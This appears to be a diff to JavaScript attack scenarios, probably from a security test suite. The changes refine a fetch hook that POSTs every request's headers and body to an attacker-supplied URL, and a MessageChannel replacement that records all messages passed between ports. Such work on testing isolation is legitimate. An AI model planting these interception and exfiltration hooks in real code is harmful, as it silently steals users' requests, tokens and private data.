@@ -9,7 +9,7 @@ const spying = (url, attacker) => {
     const send = (what) => real('${attacker}', { method: 'POST', body: String(what) });
     const real = fetch;
     globalThis.fetch = async (...args) => {
-      const request = new Request(...args);
+      const request = args[0] instanceof Request ? args[0].clone() : new Request(...args);
       send([...request.headers]);
       send(await request.clone().text());
       const response = await real(...args);
@@ -283,20 +283,22 @@ export const workers = [
       const Original = MessageChannel;
       hooks.replace(window, 'MessageChannel', {
         writable: true,
-        value: () => {
-          const [near, far] = [new Original(), new Original()];
-          const pass = (from, to) => {
-            from.onmessage = ({ data, ports }) => {
-              record(data);
-              const extra = data?.[1];
-              const moves =
-                extra instanceof ReadableStream || extra instanceof ArrayBuffer ? [extra, ...ports] : [...ports];
-              to.postMessage(data, moves);
+        value: class {
+          constructor() {
+            const [near, far] = [new Original(), new Original()];
+            const pass = (from, to) => {
+              from.onmessage = ({ data }) => {
+                record(data);
+                const body = data?.[1];
+                const moves = body instanceof ReadableStream || body instanceof ArrayBuffer ? [body] : [];
+                to.postMessage(data, moves);
+              };
             };
-          };
-          pass(near.port2, far.port1);
-          pass(far.port1, near.port2);
-          return { port1: near.port1, port2: far.port2 };
+            pass(near.port2, far.port1);
+            pass(far.port1, near.port2);
+            this.port1 = near.port1;
+            this.port2 = far.port2;
+          }
         },
       });
       await victim();
